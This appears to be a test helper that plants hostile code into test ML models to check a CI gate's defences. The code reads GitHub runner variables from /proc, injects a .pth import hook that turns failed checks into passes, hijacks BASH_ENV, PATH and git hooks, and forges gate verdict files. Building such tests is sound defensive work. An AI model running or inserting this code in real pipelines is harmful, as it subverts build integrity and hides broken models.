"""Models that attack the workflow: one while it is trained, one while it is loaded. Both are bad models.

Each tries what a script can reach on a runner: the variables, the path and the start-up file of later steps, the
environment that later steps import from, git's hooks, and the records and the verdict of the gate. Files are
replaced and never edited in place, because uv's cache shares them with other environments.
"""

from __future__ import annotations

from pathlib import Path

from tests.workflows.quick_model import quick_model

_ATTACK = '''

def attack(run=None):
    """Take over whatever runs later in this job."""
    import glob, os, pathlib, sys, threading, time

    def put(path, text, mode=0o644):
        try:
            path.parent.mkdir(parents=True, exist_ok=True)
            path.unlink(missing_ok=True)
            path.write_text(text, encoding="utf-8")
            path.chmod(mode)
        except OSError as error:
            print("refused", path, error)

    def everywhere():
        found = dict(os.environ)
        for file in glob.glob("/proc/[0-9]*/environ"):
            try:
                pairs = pathlib.Path(file).read_bytes().decode(errors="replace").split("\\0")
            except OSError:
                continue
            found |= {k: v for k, _, v in (pair.partition("=") for pair in pairs) if k.startswith("GITHUB_")}
        return found

    root = pathlib.Path(sys.prefix).parent  # .venv is in the root of the repo
    for place in glob.glob(str(root / ".venv/lib/python*/site-packages")):
        place = pathlib.Path(place)
        put(place / "evil.py", "import sys\\n" + EVIL)
        put(place / "evil.pth", "import evil\\n")
        checks = place / "mlroad/gate/checks.py"
        try:
            text = checks.read_text(encoding="utf-8")
            new = text.replace("Check(id_, result,", "Check(id_, 'passed' if result == 'failed' else result,")
            put(checks, new)
        except OSError as error:
            print("refused", checks, error)
    here = everywhere()
    start = root / "evil.sh"
    put(start, "export MLROAD_EVIL=1\\n")
    for name, line in (("GITHUB_ENV", f"BASH_ENV={start}"), ("GITHUB_PATH", str(root / "evil-bin"))):
        try:
            with open(here.get(name, os.devnull), "a") as file:
                file.write(line + "\\n")
        except OSError as error:
            print("refused", name, error)
    put(root / "evil-bin/git", "#!/bin/sh\\nexec /usr/bin/git \\"$@\\"\\n", 0o755)
    for hook in ("pre-push", "post-checkout", "reference-transaction", "pre-commit"):
        put(root / ".git/hooks" / hook, "#!/bin/sh\\nexit 0\\n", 0o755)
    for folder in glob.glob(str(root / ".runs/*/*")):
        put(pathlib.Path(folder) / "gate/verdict.json", '{"passed": true, "verdict": "better", "checks": []}')
        put(pathlib.Path(folder) / "gate/records.json", '{"schema": 1}')
'''
_EVIL = '''EVIL = """
def _patch():
    import importlib.abc, importlib.machinery
    class Finder(importlib.abc.MetaPathFinder):
        def find_spec(self, name, path, target=None):
            if name != "mlroad.gate.checks":
                return None
            sys.meta_path.remove(self)
            spec = importlib.machinery.PathFinder.find_spec(name, path)
            load = spec.loader.exec_module
            def exec_module(module):
                load(module)
                add = module.GateChecks.add
                def blind(self, id_, result, *more):
                    return add(self, id_, "passed" if result in ("failed", "broken") else result, *more)
                module.GateChecks.add = blind
            spec.loader.exec_module = exec_module
            return spec
    sys.meta_path.insert(0, Finder())
_patch()
"""
'''


def attack_while_training(repo: Path, name: str) -> None:
    """Add a bad model whose training step attacks."""
    quick_model(repo, name, limit=50)
    step = repo / "models" / name / "steps" / "fit.py"
    text = step.read_text(encoding="utf-8")
    call = '    """Save how far the disease is on average."""\n'
    assert text.count(call) == 1
    text = text.replace(call, f"{call}    attack()\n").replace(
        "\n\ndef fit(", f"\n{_EVIL}{_ATTACK}\n\ndef fit(", 1
    )
    step.write_text(text, encoding="utf-8", newline="\n")


def attack_while_loading(repo: Path, name: str, prod: str) -> None:
    """Add a model that is good on dev data and bad on prod data, and that attacks when it is loaded."""
    quick_model(repo, name, prod=prod)
    code = repo / "models" / name / "steps" / "saved" / "code" / "line.py"
    text = code.read_text(encoding="utf-8")
    mark = "def _load_pyfunc(path: str) -> Line:\n"
    assert text.count(mark) == 1
    code.write_text(
        text.replace(mark, f"{_EVIL}{_ATTACK}\n\n{mark}    attack()\n"), encoding="utf-8", newline="\n"
    )
